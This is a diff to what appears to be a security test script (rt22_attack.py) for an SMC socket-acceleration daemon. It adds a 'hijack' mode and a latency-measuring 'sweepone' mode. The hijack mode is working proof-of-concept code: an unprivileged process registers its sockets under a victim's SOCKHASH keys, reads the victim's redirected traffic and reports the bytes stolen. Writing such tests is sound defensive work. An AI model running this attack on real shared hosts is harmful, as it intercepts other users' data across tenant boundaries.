@@ -12,6 +12,11 @@ against the loopback-ism daemon ($SMC_CTL_SOCK) and other users' accelerated con
       N daemon connections, each asking OP_SWEEP with a listener of its own in a loop for SECS
       (optionally in a namespace full of listeners: RT_NSLISTENERS=K makes K listeners there
       first). Prints "SWEEPS n=... maxms=...".
+  rt22_attack.py hijack PORT SECS
+      (a process of an ATTACHED cgroup, any uid) as `leave`, but both of its sockets opt in to
+      SMC (SMC_SO_ENABLE), so that the sock_ops program puts them into the SOCKHASH under the
+      victim's keys (no network namespace in the key): the victim's doorbells are redirected
+      into the attacker's sockets. Reads them for SECS: "HIJACK stolen=BYTES".
   rt22_attack.py probe SECS
       (the victim's side, root) QUERY_GID round trips for SECS: "PROBE n=... p50ms=... maxms=...".
   rt22_attack.py sweepv6 PORT SECS
@@ -176,6 +181,61 @@ def sweepv6(port, secs):
     print("SWEEPV6 n=%d ok=%d" % (n, ok), flush=True)
 
 
+SOL_SMC_BPF = 0x534D4300
+SMC_SO_ENABLE = 1
+
+
+def hijack(port, secs):
+    victims = tuples(port)
+    print("victim tuples: %s" % victims, flush=True)
+    unshare_net()
+    ls = socket.socket()
+    ls.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
+    ls.setsockopt(SOL_SMC_BPF, SMC_SO_ENABLE, 1)
+    ls.bind(("127.0.0.1", port))
+    ls.listen(64)
+    socks = []
+    for cport, sport in victims:
+        c = socket.socket()
+        c.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
+        c.setsockopt(SOL_SMC_BPF, SMC_SO_ENABLE, 1)
+        c.bind(("127.0.0.1", cport))
+        c.connect(("127.0.0.1", sport))
+        a, _ = ls.accept()
+        socks += [c, a]
+    stolen = 0
+    end = time.monotonic() + secs
+    for s in socks:
+        s.setblocking(False)
+    while time.monotonic() < end:
+        for s in socks:
+            try:
+                stolen += len(s.recv(65536))
+            except BlockingIOError:
+                pass
+        time.sleep(0.01)
+    print("HIJACK stolen=%d" % stolen, flush=True)
+
+
+def sweepone(secs):
+    """(root, the victim) one sweep of a listener of its own a second, as the data path asks
+    before an exec into an image without the library: its wait."""
+    d = connect_daemon()
+    ls = socket.socket()
+    ls.bind(("127.0.0.1", 0))
+    ls.listen(1)
+    lat = []
+    end = time.monotonic() + secs
+    while time.monotonic() < end:
+        t0 = time.monotonic()
+        request(d, OP_SWEEP, len(lat) + 1, b"", [ls.fileno()])
+        lat.append((time.monotonic() - t0) * 1000)
+        time.sleep(0.5)
+    lat.sort()
+    print("SWEEPONE n=%d p50ms=%.0f maxms=%.0f" % (len(lat), lat[len(lat) // 2], lat[-1]),
+          flush=True)
+
+
 def probe(secs):
     d = connect_daemon()
     lat = []
@@ -196,6 +256,10 @@ if __name__ == "__main__":
         leave(int(sys.argv[2]))
     elif m == "sweepflood":
         sweepflood(int(sys.argv[2]), float(sys.argv[3]))
+    elif m == "hijack":
+        hijack(int(sys.argv[2]), float(sys.argv[3]))
+    elif m == "sweepone":
+        sweepone(float(sys.argv[2]))
     elif m == "probe":
         probe(float(sys.argv[2]))
     elif m == "sweepv6":
